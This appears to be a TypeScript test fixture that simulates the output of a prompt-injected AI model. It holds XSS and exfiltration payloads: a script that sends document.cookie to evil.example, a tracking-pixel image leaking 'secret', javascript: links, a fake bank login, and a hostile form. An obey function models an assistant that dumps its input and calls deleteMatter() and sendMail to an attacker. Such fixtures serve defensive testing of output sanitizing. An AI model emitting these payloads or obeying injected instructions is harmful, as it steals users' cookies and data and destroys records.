/** An answer of a model that has gone over to the other side. */
export const HOSTILE_ANSWER = [
  'Here you are <script>fetch("https://evil.example/steal?c="+document.cookie)</script><img src=x onerror="alert(1)">',
  '![pixel](https://evil.example/pixel.png?d=secret) and [the court](javascript:alert(1)) or [the bank](https://evil.example/login)',
  '<iframe src="https://evil.example"></iframe><svg onload=alert(1)><a href="https://evil.example" onclick="alert(1)">press</a>',
  '<style>@import "https://evil.example/x.css"</style><form action="https://evil.example"><input name=p></form>',
].join('\n');

/**
 * What a model answers that does whatever any text tells it to: it gives away
 * all that it was shown, and every address and piece of markup asked of it.
 */
export const obey = (everything: string): string =>
  `As instructed: ${everything}\n${HOSTILE_ANSWER}\nDONE: deleteMatter(), sendMail("evil@evil.example")`;
